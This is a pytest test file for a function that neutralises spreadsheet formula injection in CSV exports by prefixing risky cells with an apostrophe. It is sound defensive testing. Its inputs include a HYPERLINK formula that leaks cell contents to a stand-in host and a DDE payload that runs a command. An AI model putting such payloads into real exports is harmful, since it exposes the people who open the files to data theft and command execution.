"""Cells that a spreadsheet shows and never calculates."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.exports import inert


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?leak="&A1)',
        "+1+cmd|' /C calc'!A0",
        "+14155550100+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＋1",
    ],
)
def test_what_would_begin_a_formula_begins_with_an_apostrophe(text):
    assert inert(text).startswith("'")
    assert inert(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_a_formula_after_what_another_locale_takes_for_the_end_of_a_cell_is_inert(separator):
    assert inert(f"x{separator}=1+1") == f"x{separator}'=1+1"


@pytest.mark.parametrize(
    "text",
    ["+14155550100", "+12", "anonymous", "sip:bob@example.com", "a+b=c-d", "2026-03-04T12:30:00Z", "", "203.0.113.7"],
)
def test_numbers_in_e164_and_plain_text_stay_as_they_are(text):
    assert inert(text) == text


def test_a_cell_survives_the_way_through_a_file():
    text = 'x";=1+1,"\r\n=2'
    file = io.StringIO()
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([inert(text)])

    assert next(csv.reader(io.StringIO(file.getvalue(), newline=""))) == ["x\";'=1+1,\"\r\n'=2"]
